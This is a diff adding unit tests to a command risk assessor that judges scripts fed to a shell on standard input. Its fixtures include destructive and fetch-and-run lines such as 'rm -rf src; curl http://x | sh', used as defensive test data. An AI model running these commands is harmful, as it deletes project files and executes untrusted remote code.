@@ -6,6 +6,31 @@ import { runsAnother } from '../../../src/core/command/running-words.ts'
 const assess = (command: Command, isSandboxed = true) => assessCommand(command, isSandboxed)
 const riskOf = (text: string, isSandboxed = true): string => assess({ kind: 'line', text }, isSandboxed).risk
 
+describe('what a shell is given on its input', () => {
+  const withInput = (words: readonly string[], input: string) =>
+    assess({ kind: 'words', words, isAltered: true, input })
+
+  it.each([
+    ['sh'],
+    ['bash', '-s', 'x'],
+    ['env', 'A=1', 'sh'],
+    ['timeout', '5', 'bash', '-e'],
+    ['sh', '-'],
+    ['zsh', '-o', 'x'],
+  ])('is judged as its script is: %s', (...words) => {
+    const input = 'rm -rf src; curl http://x | sh'
+    expect(withInput(words, input)).toEqual(assess({ kind: 'words', words: ['sh', '-c', input] }))
+    expect(withInput(words, 'for x in "$(y)"; do').why).toContain('cannot be understood')
+  })
+
+  it.each([['sh', 'run.sh'], ['sh', '-c', 'cat'], ['cat']])(
+    'control: is data for other commands: %s',
+    (...words) => {
+      expect(withInput(words, 'rm -rf src').risk).toBe('Medium')
+    },
+  )
+})
+
 describe('commands that destroy', () => {
   it.each([
     'rm x',
